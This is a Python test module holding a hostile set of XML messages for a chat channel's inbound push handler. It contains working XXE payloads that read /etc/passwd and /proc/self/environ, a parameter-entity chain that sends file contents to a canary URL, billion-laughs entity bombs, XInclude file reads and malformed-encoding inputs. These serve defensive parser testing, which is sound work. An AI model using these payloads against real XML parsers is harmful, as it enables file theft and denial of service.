"""The hostile set, inside the envelope: what a push may say. Each case has a name that gives the reason, and what must become of it.

`MARK` stands wherever an answer could echo it; `CANARY` is the address of a listener that must hear nothing.
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass

from tests.channels.conftest import ACCOUNT
from tests.e2e.house import free_port

MARK = "m4rk3d"
CANARY = f"http://127.0.0.1:{free_port()}"
SENDER = "o-hostile_1"
_ids = itertools.count(10**15)
REFUSED = None
"""Nothing of it reaches the inbox."""


@dataclass(frozen=True)
class Hostile:
    """One case.

    Args:
        name: what it tries.
        xml: the plain XML.
        taken: the words that reach the inbox when it is only data after all; None when nothing may.
    """

    name: str
    xml: bytes
    taken: str | None = REFUSED


def push(content: str = f"<![CDATA[{MARK}]]>", **fields: str) -> str:
    """A text message with fields replaced, dropped (empty) or added."""
    parts = {"ToUserName": ACCOUNT, "FromUserName": SENDER, "CreateTime": "1760000000", "MsgType": "text", "Content": content}
    parts |= {"MsgId": str(next(_ids))} | fields
    return f"<xml>{''.join(f'<{name}>{value}</{name}>' for name, value in parts.items() if value)}</xml>"


def _doctype(inside: str, content: str = f"{MARK}&a;", head: str = "") -> str:
    return f"<!DOCTYPE xml {head}[{inside}]>" + push(content)


def cases(named: dict[str, str | bytes], taken: str | None = REFUSED) -> list[Hostile]:
    """Cases by name that all end the same way."""
    return [Hostile(name, xml if isinstance(xml, bytes) else xml.encode("utf-8", "surrogatepass"), taken) for name, xml in named.items()]


_LAUGHS = f'<!ENTITY a0 "{MARK}">' + "".join(f'<!ENTITY a{n} "' + f"&a{n - 1};" * 10 + '">' for n in range(1, 10))
XXE = cases(
    {
        "an internal entity": _doctype(f'<!ENTITY a "{MARK}">'),
        "an external entity reads a file": _doctype('<!ENTITY a SYSTEM "file:///etc/passwd">'),
        "an external entity reads our environment": _doctype('<!ENTITY a SYSTEM "file:///proc/self/environ">'),
        "an external entity calls out": _doctype(f'<!ENTITY a SYSTEM "{CANARY}/general">'),
        "a public external entity calls out": _doctype(f'<!ENTITY a PUBLIC "-//W3C//TEXT" "{CANARY}/public">'),
        "a parameter entity calls out": _doctype(f'<!ENTITY % p SYSTEM "{CANARY}/parameter"> %p;', MARK),
        "a parameter entity carries a file out": _doctype(
            f'<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % e "<!ENTITY &#37; x SYSTEM \'{CANARY}/?%f;\'>">%e;%x;', MARK
        ),
        "an external DTD calls out": f'<!DOCTYPE xml SYSTEM "{CANARY}/x.dtd">' + push(),
        "a public DTD calls out": f'<!DOCTYPE xml PUBLIC "-//W3C//DTD" "{CANARY}/x.dtd">' + push(),
        "a bare DTD": "<!DOCTYPE xml>" + push(),
        "a DTD after a comment and a declaration": '<?xml version="1.0"?><!-- x -->' + _doctype(f'<!ENTITY a "{MARK}">'),
        "a default attribute of a DTD": _doctype(f'<!ATTLIST xml base CDATA "{CANARY}/attribute">', MARK),
        "an unparsed entity": _doctype(f'<!NOTATION n SYSTEM "{CANARY}/n"><!ENTITY a SYSTEM "{CANARY}/u" NDATA n>', MARK),
        "an entity nobody has declared": push(f"{MARK}&nobody;"),
        "a DTD in UTF-16": _doctype(f'<!ENTITY a SYSTEM "{CANARY}/utf16">').encode("utf-16"),
        "a DTD whose keyword is split by a NUL": _doctype(f'<!ENTITY a "{MARK}">').replace("DOCTYPE", "DOC\0TYPE"),
        "XInclude of a file": push(f'{MARK}<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>', MsgType=""),
        "entities that laugh a billion times": _doctype(_LAUGHS, f"{MARK}&a9;"),
        "parameter entities that laugh": _doctype('<!ENTITY % a "ha"><!ENTITY % b "%a;%a;%a;%a;">%b;', MARK),
        "one long entity many times": _doctype(f'<!ENTITY a "{"A" * 20_000}">', "&a;" * 10_000),
        "an entity that names itself": _doctype('<!ENTITY a "&b;"><!ENTITY b "&a;">'),
    }
) + cases(
    {
        "a stylesheet calls out": f'<?xml-stylesheet type="text/xsl" href="{CANARY}/x.xsl"?>' + push(),
        "a schema calls out": push().replace(
            "<xml>", f'<xml xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="{CANARY}/s">'
        ),
    },
    MARK,
)

ENCODINGS = cases(
    {
        "UTF-16 with its mark": push().encode("utf-16"),
        "UTF-16, big end first": "\ufeff".encode("utf-16-be") + push().encode("utf-16-be"),
        "UTF-32": push().encode("utf-32"),
        "UTF-7 instead of brackets": b'<?xml version="1.0" encoding="UTF-7"?>' + push().replace("<", "+ADw-").encode(),
        "GB2312, as it says": b'<?xml version="1.0" encoding="gb2312"?>' + push(f"{MARK}身份证").encode("gb2312"),
        "a byte that UTF-8 does not have": push(f"{MARK}é").encode().replace("é".encode(), b"\xff"),
        "an overlong bracket": push(f"{MARK}é").encode().replace("é".encode(), b"\xc0\xbc"),
        "half of a surrogate pair": push(f"{MARK}\ud800"),
        "a character cut in two": push(f"{MARK}é").encode().replace("é".encode(), b"\xc3"),
        "a character beyond Unicode": push(f"{MARK}&#x110000;"),
        "a reference to a NUL": push(f"{MARK}&#0;"),
        "a NUL inside a name": push().replace("<FromUserName>", "<From\0User Name>"),
        "U+FFFF": push(f"{MARK}&#xFFFF;"),
    }
) + cases(
    {
        "UTF-8 that says it is gb2312": '<?xml version="1.0" encoding="gb2312"?>' + push(),
        "control characters and a NUL": push(f"\x00\x08{MARK[:3]}\x1b{MARK[3:]}\x0b"),
    },
    MARK,
)
